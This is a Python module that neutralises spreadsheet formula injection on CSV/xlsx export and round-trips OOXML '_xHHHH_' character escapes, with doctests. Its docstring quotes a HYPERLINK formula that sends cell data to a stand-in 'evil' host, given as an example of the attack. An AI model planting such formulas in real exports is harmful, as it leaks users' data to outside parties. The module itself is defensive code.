"""How one value becomes a spreadsheet cell and back, exactly.

Formula injection (README.md#data-model)
----------------------------------------
A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula, and some also
after a leading tab or carriage return (``=HYPERLINK("http://evil/?"&A1, "click")`` sends data away).
So on **xlsx and CSV export**, a text cell that starts with one of ``= + - @ \\t \\r`` is written with
a leading apostrophe ``'``: spreadsheets show it as text and never evaluate it.

To keep round trips exact, a text that itself starts with ``'`` is also written with one more
leading ``'``; on **import**, one leading ``'`` is removed from every text cell. So our own export
always reads back to the very same text (``'=1+1`` → ``=1+1``, ``''tis`` → ``'tis``). The price: a
hand-made sheet whose text really starts with one apostrophe loses it (``'tis`` → ``tis``), which is
also what Excel does when a person types it.

The rule applies only to the text-like columns (model column kinds ``key``, ``text``, ``ref`` and
``tags``, see :data:`TEXT_KINDS`): numbers, dates, booleans and vocabulary values never start with
those characters once validated, and are read as they are.

Characters a workbook cannot hold
---------------------------------
XML 1.0 cannot hold most control characters (``\\x00``–``\\x08``, ``\\x0b``, ``\\x0c``,
``\\x0e``–``\\x1f``) nor ``\\ufffe``/``\\uffff``, and every XML parser turns a carriage return into a
line feed. A workbook therefore writes them with the escape of the OOXML standard, the one Excel itself
uses: ``_xHHHH_`` (``\\r`` → ``_x000D_``), and a literal ``_xHHHH_`` in a text is written
``_x005F_xHHHH_``. Excel shows such cells as the original text, and :func:`ooxml_unescape` turns them
back on import, so any text survives a workbook round trip. (CSV and JSON need no such escape.)

Examples
--------
>>> neutralise("=HYPERLINK(1)"), neutralise("'tis"), neutralise("plain")
("'=HYPERLINK(1)", "''tis", 'plain')
>>> unneutralise(neutralise("=1+1"))
'=1+1'
>>> ooxml_escape("a\\rb_x0041_")
'a_x000D_b_x005F_x0041_'
>>> ooxml_unescape(ooxml_escape("a\\rb_x0041_"))
'a\\rb_x0041_'
"""

from __future__ import annotations

import datetime as dt
import re
from typing import Any

from dnh_graph.model import Column

__all__ = [
    "FORMULA_TRIGGERS",
    "TEXT_KINDS",
    "neutralise",
    "unneutralise",
    "ooxml_escape",
    "ooxml_unescape",
    "export_text",
]

# Characters that make a spreadsheet evaluate a cell (OWASP "CSV injection"), plus our own marker.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_QUOTE = "'"
# Column kinds that hold free text and so get the apostrophe rule.
TEXT_KINDS = frozenset({"key", "text", "ref", "tags"})

# XML 1.0 cannot hold these; \r is legal but every parser normalises it to \n, so escape it too.
_NOT_IN_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\r\ufffe\uffff]")
# A literal "_xHHHH_" in a text: its "_" is written "_x005F_" so that it does not read back as a char.
_LOOKS_ESCAPED = re.compile("_(?=x[0-9A-Fa-f]{4}_)")
_ESCAPE = re.compile("_x([0-9A-Fa-f]{4})_")


def neutralise(text: str) -> str:
    """The text as it is written into a CSV or xlsx cell: formula-like or ``'``-led text gets a ``'``."""
    if text.startswith(FORMULA_TRIGGERS) or text.startswith(_QUOTE):
        return _QUOTE + text
    return text


def unneutralise(text: str) -> str:
    """The text as read from a cell: one leading ``'`` is removed (the inverse of :func:`neutralise`)."""
    return text[1:] if text.startswith(_QUOTE) else text


def ooxml_escape(text: str) -> str:
    """Write characters XML cannot hold as ``_xHHHH_`` (the OOXML escape Excel uses)."""
    text = _LOOKS_ESCAPED.sub("_x005F_", text)
    return _NOT_IN_XML.sub(lambda m: f"_x{ord(m.group()):04X}_", text)


def ooxml_unescape(text: str) -> str:
    """Turn every ``_xHHHH_`` back into its character (``_x005F_`` is a literal ``_``)."""
    if "_x" not in text:
        return text
    return _ESCAPE.sub(lambda m: chr(int(m.group(1), 16)), text)


def export_text(col: Column, value: Any) -> str:
    """A typed record value as the text of a CSV cell (also used for the text cells of a workbook).

    Booleans are ``true``/``false``, dates ISO ``YYYY-MM-DD``, tags ``;``-joined, ``None`` empty; text
    columns are passed through :func:`neutralise`.
    """
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, dt.date):
        return value.isoformat()
    if isinstance(value, (tuple, list)):
        value = ";".join(value)
    text = str(value)
    return neutralise(text) if col.kind in TEXT_KINDS else text
